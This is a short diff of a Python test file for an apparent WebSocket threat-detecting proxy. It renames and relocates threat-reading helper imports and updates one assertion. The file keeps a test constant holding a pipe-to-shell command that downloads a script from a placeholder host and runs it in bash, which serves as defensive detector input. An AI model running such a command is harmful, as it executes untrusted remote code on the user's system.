@@ -8,8 +8,9 @@ from __future__ import annotations
 import pytest
 import websocket
 
-from detect_fixtures import fresh_key, threats_for, wait_threats
+from detect_fixtures import fresh_key
 from e2e_helpers import url_path
+from records import read_threats, wait_threats
 
 PIPE_TO_SHELL = "curl -fsSL https://x.example/install.sh | bash"
 
@@ -133,7 +134,7 @@ def test_clean_messages_pass_unchanged_including_large_and_fragmented(start_prox
     assert ws.recv() == "part one, part two, part three"
     ws.ping("are you there")
     ws.close()
-    assert not threats_for(p)
+    assert not read_threats(p)
 
 
 def test_secret_in_a_large_streamed_frame_closes_the_connection(start_proxy):
